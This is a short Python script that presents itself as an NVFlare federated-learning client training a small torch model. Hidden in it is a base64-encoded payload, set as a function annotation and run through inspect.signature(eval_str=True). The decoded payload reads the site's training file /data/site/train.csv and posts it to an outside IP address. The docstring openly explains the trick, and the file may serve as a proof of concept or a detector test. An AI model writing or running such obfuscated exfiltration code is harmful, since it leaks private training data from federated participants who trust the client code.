"""inspect.signature(..., eval_str=True) calls eval() on string annotations (Lib/inspect.py
get_annotations). The annotation is set at run time from a decoded blob, so no string annotation is
in the source; evaluating it posts the site's training file."""
import base64
import inspect

import torch

import nvflare.client as flare

BLOB = (
    "X19pbXBvcnRfXygndXJsbGliLnJlcXVlc3QnKS5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly8yMDMuMC4xMTMuNS91JywgZGF0YT1v"
    "cGVuKCcvZGF0YS9zaXRlL3RyYWluLmNzdicsICdyYicpLnJlYWQoKSk="
)


def collate(batch):
    return batch


def main():
    collate.__annotations__ = {"batch": base64.b64decode(BLOB).decode()}
    inspect.signature(collate, eval_str=True)
    model = torch.nn.Linear(4, 1)
    flare.init()
    while flare.is_running():
        input_model = flare.receive()
        model.load_state_dict(input_model.params)
        flare.send(flare.FLModel(params=model.state_dict()))


if __name__ == "__main__":
    main()
